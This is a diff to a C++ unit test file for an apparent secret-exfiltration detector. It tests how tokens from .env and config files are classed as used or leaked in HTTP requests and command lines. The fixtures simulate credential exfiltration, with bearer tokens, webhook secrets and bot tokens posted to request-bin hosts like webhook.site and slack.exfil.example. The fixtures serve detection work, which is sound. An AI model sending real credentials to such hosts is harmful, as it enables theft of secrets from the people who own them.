@@ -8,6 +8,7 @@
 #include <fmt/format.h>
 
 #include "detect/content.hpp"
+#include "util/text.hpp"
 
 using namespace exfilwatch;
 using namespace exfilwatch::detect;
@@ -75,6 +76,24 @@ std::string status_post(std::string_view auth, std::string_view body)
 
 }  // namespace
 
+namespace {
+
+std::vector<std::string> secret_tokens(std::string_view text, std::size_t min_length = 16, std::size_t max_tokens = 256)
+{
+    std::vector<std::string> out;
+    for (auto& t : file_tokens(text, min_length, max_tokens)) out.push_back(std::move(t.text));
+    return out;
+}
+
+std::map<std::string, TokenFacts> token_facts(std::string_view text)
+{
+    std::map<std::string, TokenFacts> out;
+    for (auto& t : file_tokens(text)) out.emplace(std::move(t.text), std::move(t.facts));
+    return out;
+}
+
+}  // namespace
+
 TEST_CASE("secret tokens: values, URL userinfo, PEM lines; not key names or paths")
 {
     auto tokens = secret_tokens(hosts_yml);
@@ -90,6 +109,11 @@ TEST_CASE("secret tokens: values, URL userinfo, PEM lines; not key names or path
     CHECK(std::find(pem.begin(), pem.end(), "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW") !=
           pem.end());
     CHECK(secret_tokens("ca_certs_file = /tmp/pytest-of-root/cert.pem\nregion = us-east-1\n").empty());
+    // A host name is no secret (s3cmd's host_base), nor one with a port; a URL's token still is.
+    CHECK(secret_tokens("host_base = s3.amazonaws.com\nhost_bucket = own-backups.s3.eu-west-1.amazonaws.com\n"
+                        "proxy = proxy.corp.example:3128\n")
+              .empty());
+    CHECK(secret_tokens("db = postgres://app:e2eDbPassw0rd1234567890@db2.internal\n").size() >= 1);
     CHECK(secret_tokens(std::string(100000, 'a') + "1", 16, 4).size() <= 4);
 }
 
@@ -125,6 +149,11 @@ TEST_CASE("http layout: request line, headers by name, body; a write without a r
     CHECK(layout.regions[2].header == "authorization");
     CHECK(is_auth_header(layout.regions[2].header));
     CHECK_FALSE(is_auth_header("user-agent"));
+    for (const auto* name : {"authorization", "proxy-authorization", "cookie", "x-api-key", "private-token",
+                             "x-vault-token", "dd-api-key", "x-sentry-auth", "pinata_secret_api_key", "circle-token"})
+        CHECK(is_auth_header(name));
+    for (const auto* name : {"x-trace", "content-type", "x-request-id", "x-monkey", "host", "accept"})
+        CHECK_FALSE(is_auth_header(name));
     CHECK(text.substr(layout.body_begin) == "{\"state\":\"success\"}");
     auto body = bytes("just a continuation of a body");
     auto cont = http_layout(body);
@@ -474,6 +503,21 @@ TEST_CASE("argument scan: a secret on the command line, by file, encoding and ro
     CHECK(scan.matches[1].location == "argument");
     CHECK(scan.matches[1].encoding == "base64");
     CHECK(scan.matches[1].header == "x-trace");
+    CHECK(scan.matches[0].audience == "named");  // to api.github.com, which hosts.yml names
+    CHECK(scan.matches[1].audience.empty());     // data: no audience judged
+    // The credential handed over for a request to another site (a Go client's, unseen in TLS).
+    ProcessRef away;
+    away.args = {"gh", "api", "-H", "Authorization: token " + token, "https://hooks.slack.com/services/T/B/X"};
+    CHECK(scan_arguments(index, 5, away).matches.at(0).audience == "foreign");
+    away.args = {"curl",
+                 "-x",
+                 "http://proxy.example.org:3128",
+                 "-H",
+                 "Authorization: token " + token,
+                 "https://api.github.com/x?to=me@example.org"};  // not the proxy, nor an address in the query
+    CHECK(scan_arguments(index, 5, away).matches.at(0).audience == "named");
+    away.args = {"gh", "api", "-H", "Authorization: token " + token, "repos/o/r/statuses/0123abcd"};
+    CHECK(scan_arguments(index, 5, away).matches.at(0).audience.empty());  // no URL: no judgement
 
     ProcessRef store;  // a secret store's command is given the secret to keep: use
     store.args = {"gh", "secret", "set", "DEPLOY_TOKEN", "--body", token};
@@ -588,7 +632,7 @@ TEST_CASE("verdict: a token sent in an authentication header to a site its file 
     };
     auto own = scan_plaintext(index, write_of(post_to("api.github.com:8443")), true);
     REQUIRE(own.matches.size() == 1);
-    CHECK(own.matches[0].audience.empty());
+    CHECK(own.matches[0].audience == "named");
     auto away = scan_plaintext(index, write_of(post_to("hooks.slack.com")), true);
     REQUIRE(away.matches.size() == 1);
     CHECK(away.matches[0].location == "auth-header");
@@ -608,7 +652,7 @@ TEST_CASE("verdict: a token sent in an authentication header to a site its file 
     const std::string headless = "POST /x HTTP/1.1\r\nAuthorization: token " + token + "\r\n\r\n";
     CHECK(scan_plaintext(index, write_of(headless), true, nullptr, "paste.example.org").matches.at(0).audience ==
           "foreign");
-    CHECK(scan_plaintext(index, write_of(headless), true, nullptr, "github.com").matches.at(0).audience.empty());
+    CHECK(scan_plaintext(index, write_of(headless), true, nullptr, "github.com").matches.at(0).audience == "named");
     CHECK(scan_plaintext(index, write_of(headless), true).matches.at(0).audience.empty());
     // HTTP/2: by :authority.
     auto h2 = write_of("h2 frames");
@@ -616,7 +660,7 @@ TEST_CASE("verdict: a token sent in an authentication header to a site its file 
     h2.http2->fields = {{":method", "POST"}, {":authority", "webhook.site"}, {"authorization", "Bearer " + token}};
     CHECK(scan_plaintext(index, h2, true).matches.at(0).audience == "foreign");
     h2.http2->fields[1].value = "api.github.com";
-    CHECK(scan_plaintext(index, h2, true).matches.at(0).audience.empty());
+    CHECK(scan_plaintext(index, h2, true).matches.at(0).audience == "named");
 }
 
 TEST_CASE("verdict: a signing key in an authentication header left; the key id there (SigV4) is use")
@@ -661,4 +705,190 @@ TEST_CASE("argument scan: a signing key's matches say so, wherever it sits")
     CHECK(scan.matches[1].secret == "signing-key");
     CHECK(scan.matches[1].location == "auth-argument");
     CHECK(scan.matches[1].header.empty());  // an option name too long to show
+}
+
+namespace {
+
+const std::string slack_secret = "e2eSlackHookSecret0123456789";
+const std::string telegram_token = "123456789:AAE2eTelegramBotToken0123456789abcd";
+const std::string api_token = "e2eApiToken0123456789abcdefABCDEF";
+const std::string ntfy_token = "tk_e2entfytoken0123456789abcdefgh";
+const std::string pushover_token = "azGDORePK8gMaC0QOYAMyEEuzJnyUi";
+const std::string pushover_user = "uQiRzpo4DXghDmr9QzzfQu27cmVRsG";
+const std::string dotenv = "SLACK_WEBHOOK_URL=https://hooks.slack.com/services/T0E2E1234/B0E2E5678/" + slack_secret +
+                           "\nexport TELEGRAM_BOT_TOKEN=" + telegram_token + "\nAPI_TOKEN=" + api_token +
+                           "\nNTFY_TOKEN=" + ntfy_token + "\nPUSHOVER_TOKEN=" + pushover_token +
+                           "\nPUSHOVER_USER=" + pushover_user + "\n";
+const std::string dotenv_path = "/home/u/app/.env";
+
+FingerprintIndex index_with_dotenv()
+{
+    FingerprintIndex index(8, {1, 2});
+    REQUIRE(index.add_file(dotenv_path, 1, 9, dotenv) > 0);
+    return index;
+}
+
+std::string request_to(std::string_view host, std::string_view target, std::string_view headers = {},
+                       std::string_view body = {})
+{
+    return fmt::format("POST {} HTTP/1.1\r\nHost: {}\r\n{}Content-Length: {}\r\n\r\n{}", target, host, headers,
+                       body.size(), body);
+}
+
+// The verdict on the .env of a pair whose only scan is of `request`, judged as by a category
+// with named_credentials or not, and the evidence of its leak.
+std::pair<ContentVerdict, std::string> dotenv_verdict(const std::string& request, bool named_only = false)
+{
+    auto index = index_with_dotenv();
+    ContentEvidence evidence;
+    evidence.note("pair", scan_plaintext(index, write_of(request), true));
+    const auto* facts = evidence.find("pair");
+    auto leaked = facts->leaked.find(dotenv_path);
+    return {content_verdict(*facts, dotenv_path, 2000, named_only),
+            leaked == facts->leaked.end() ? std::string() : leaked->second};
+}
+
+}  // namespace
+
+TEST_CASE("file tokens: in order, each once; a URL's path parts are for its host; settings' words")
+{
+    auto tokens = file_tokens(dotenv + "API_KEY=" + api_token + "\n[pushover]\ntoken = sectionToken0123456789\n");
+    auto find = [&](const std::string& text) -> const TokenFacts& {
+        auto it = std::find_if(tokens.begin(), tokens.end(), [&](const FileToken& t) { return t.text == text; });
+        REQUIRE(it != tokens.end());
+        return it->facts;
+    };
+    REQUIRE(!tokens.empty());
+    CHECK(tokens.front().text.starts_with("https://hooks.slack.com/services/"));  // the value, first
+    CHECK(std::count_if(tokens.begin(), tokens.end(), [&](const FileToken& t) { return t.text == api_token; }) == 1);
+    using Words = std::vector<std::string>;
+    CHECK(find(slack_secret).hosts == Words{"hooks.slack.com"});
+    CHECK(find(tokens.front().text).hosts == Words{"hooks.slack.com"});
+    CHECK(find(telegram_token).hosts.empty());
+    CHECK(find(telegram_token).words == Words{"telegram"});  // export, bot, token: common words
+    CHECK(find(telegram_token).setting == "token");
+    CHECK(find(api_token).words.empty());
+    CHECK(find(pushover_user).words == Words{"pushover"});
+    CHECK(find(pushover_user).setting == "user");
+    CHECK(find("sectionToken0123456789").words == Words{"pushover"});  // an INI section's name
+    CHECK(find("sectionToken0123456789").setting == "token");
+    // A query's values too; a YAML section's name; a URL with no path says nothing more.
+    auto query = file_tokens("notify:\n  url: https://ntfy.example.org/topic?auth=q0123456789abcdefghij\n");
+    auto q =
+        std::find_if(query.begin(), query.end(), [](const FileToken& t) { return t.text == "q0123456789abcdefghij"; });
+    REQUIRE(q != query.end());
+    CHECK(q->facts.hosts == Words{"ntfy.example.org"});
+    CHECK(file_tokens("slack:\n  token: yamlSection0123456789\n").at(0).facts.words == Words{"slack"});
+    CHECK(file_tokens(std::string(100000, 'a') + "1", 16, 4).size() <= 4);
+}
+
+TEST_CASE("word names site: the site's main label, with at most three letters added")
+{
+    CHECK(word_names_site("telegram", "api.telegram.org"));
+    CHECK(word_names_site("ntfy", "NTFY.sh"));
+    CHECK(word_names_site("discord", "discordapp.com"));
+    CHECK(word_names_site("sentry", "o1.ingest.getsentry.com"));
+    CHECK_FALSE(word_names_site("slack", "slack.exfil.example"));  // its site is exfil.example
+    CHECK_FALSE(word_names_site("slack", "slackbotsexfil.com"));
+    CHECK_FALSE(word_names_site("pushover", "webhook.site"));
+    CHECK_FALSE(word_names_site("", "webhook.site"));
+    CHECK_FALSE(word_names_site("ntfy", ""));
+}
+
+TEST_CASE("verdict: a webhook's token in its own URL's request line is use; elsewhere it left")
+{
+    const auto path = "/services/T0E2E1234/B0E2E5678/" + slack_secret;
+    const std::string summary = "{\"text\":\"build 1234 passed\"}";
+    auto scan = scan_plaintext(index_with_dotenv(), write_of(request_to("hooks.slack.com", path, {}, summary)), true);
+    REQUIRE(scan.matches.size() == 1);
+    CHECK(scan.matches[0].location == "request-line");
+    CHECK(scan.matches[0].audience == "named");
+    CHECK(dotenv_verdict(request_to("hooks.slack.com", path, {}, summary)).first == ContentVerdict::used);
+    CHECK(dotenv_verdict(request_to("hooks.slack.com", path, {}, summary), true).first == ContentVerdict::used);
+    CHECK(dotenv_verdict(request_to("webhook.site", path, {}, summary)) ==
+          std::pair{ContentVerdict::leaked,
+                    std::string("raw in the request-line, to a site its file does not name it for")});
+    // A bot token in its API's path: the setting's word names the site.
+    const auto bot = "/bot" + telegram_token + "/sendMessage";
+    CHECK(dotenv_verdict(request_to("api.telegram.org", bot, {}, summary)).first == ContentVerdict::used);
+    CHECK(dotenv_verdict(request_to("webhook.site", bot, {}, summary)) ==
+          std::pair{ContentVerdict::leaked, std::string("raw in the request-line")});
+    // A token named for nothing in a request line is data (a query to a request bin).
+    CHECK(dotenv_verdict(request_to("hooks.slack.com", "/x?t=" + api_token)).first == ContentVerdict::leaked);
+    // The token in the body of its own webhook's request: the body is data.
+    CHECK(dotenv_verdict(request_to("hooks.slack.com", path, {}, "{\"text\":\"" + api_token + "\"}")).first ==
+          ContentVerdict::leaked);
+}
+
+TEST_CASE("verdict: where credentials must be named, one named for nothing in a header left")
+{
+    const auto bearer = [](const std::string& t) { return "Authorization: Bearer " + t + "\r\n"; };
+    const auto to_bin = request_to("webhook.site", "/0e2e", bearer(api_token), "x");
+    CHECK(dotenv_verdict(to_bin).first == ContentVerdict::used);  // a tunnel's app, a code host's API
+    CHECK(dotenv_verdict(to_bin, true) ==
+          std::pair{ContentVerdict::leaked, std::string()});  // content_signals words this one
+    ContentEvidence evidence;
+    evidence.note("pair", scan_plaintext(index_with_dotenv(), write_of(to_bin), true));
+    CHECK(evidence.find("pair")->unnamed.at(dotenv_path) == "raw in the header authorization");
+    // NTFY_TOKEN to ntfy.sh: named by its setting's word.
+    const auto to_ntfy = request_to("ntfy.sh", "/deploys", bearer(ntfy_token), "deploy done");
+    CHECK(dotenv_verdict(to_ntfy, true).first == ContentVerdict::used);
+    CHECK(dotenv_verdict(request_to("webhook.site", "/0e2e", bearer(ntfy_token), "x"), true).first ==
+          ContentVerdict::leaked);
+}
+
+TEST_CASE("verdict: a credential field of a form, JSON or multipart body to its service is use")
+{
+    const auto form = "token=" + pushover_token + "&user=" + pushover_user + "&message=deploy+done";
+    auto scan = scan_plaintext(index_with_dotenv(),
+                               write_of(request_to("api.pushover.net", "/1/messages.json", {}, form)), true);
+    REQUIRE(scan.matches.size() == 2);
+    CHECK(scan.matches[0].location == "body");
+    CHECK(scan.matches[0].header == "token");
+    CHECK(scan.matches[1].header == "user");  // named as its setting, PUSHOVER_USER
+    CHECK(scan.matches[1].audience == "named");
+    CHECK(dotenv_verdict(request_to("api.pushover.net", "/1/messages.json", {}, form), true).first ==
+          ContentVerdict::used);
+    CHECK(dotenv_verdict(request_to("webhook.site", "/1/messages.json", {}, form)) ==
+          std::pair{ContentVerdict::leaked,
+                    std::string("raw in the body field token, to a site its file does not name it for")});
+    const auto json = "{\"api_key\": \"" + pushover_token + "\", \"text\": \"deploy done\"}";
+    CHECK(dotenv_verdict(request_to("api.pushover.net", "/1/messages.json", {}, json)).first == ContentVerdict::used);
+    const auto multipart = "--b0\r\nContent-Disposition: form-data; name=\"token\"\r\n\r\n" + pushover_token +
+                           "\r\n--b0\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\n" + pushover_user +
+                           "\r\n--b0--\r\n";
+    CHECK(dotenv_verdict(request_to("api.pushover.net", "/1/messages.json", {}, multipart)).first ==
+          ContentVerdict::used);
+    // Not a credential's field, a file's part, or more than the value: data.
+    CHECK(dotenv_verdict(request_to("api.pushover.net", "/1/messages.json", {}, "message=" + pushover_token)).first ==
+          ContentVerdict::leaked);
+    const auto file_part = "--b0\r\nContent-Disposition: form-data; name=\"token\"; filename=\"t\"\r\n\r\n" +
+                           pushover_token + "\r\n--b0--\r\n";
+    CHECK(dotenv_verdict(request_to("api.pushover.net", "/1/messages.json", {}, file_part)).first ==
+          ContentVerdict::leaked);
+    CHECK(
+        dotenv_verdict(request_to("api.pushover.net", "/1/messages.json", {}, "token=" + pushover_token + "x")).first ==
+        ContentVerdict::leaked);
+}
+
+TEST_CASE("plaintext scan: a header's name that carries a secret is never shown")
+{
+    const auto index = index_with_hosts_yml();
+    const auto named =
+        fmt::format("POST /x HTTP/1.1\r\nHost: example.org\r\nX-{}: 1\r\nX-Api-{}-Key: 2\r\n\r\n", token, token);
+    auto scan = scan_plaintext(index, write_of(named), true);
+    REQUIRE(!scan.matches.empty());
+    for (const auto& m : scan.matches) {
+        CHECK(m.header == "[REDACTED]");
+        CHECK(util::to_lower(m.header).find(util::to_lower(token)) == std::string::npos);
+    }
+    REQUIRE(scan.auth_headers.size() == 1);  // X-Api-...-Key is named for a credential
+    CHECK(scan.auth_headers[0] == "[REDACTED]");
+    // Ordinary names are shown as they are; a long one is not.
+    const auto plain = fmt::format("POST /x HTTP/1.1\r\nHost: example.org\r\nX-Trace: {}\r\n{}: {}\r\n\r\n", token,
+                                   std::string(60, 'h'), token);
+    scan = scan_plaintext(index, write_of(plain), true);
+    REQUIRE(scan.matches.size() == 2);
+    CHECK(scan.matches[0].header == "x-trace");
+    CHECK(scan.matches[1].header == "[REDACTED]");
 }
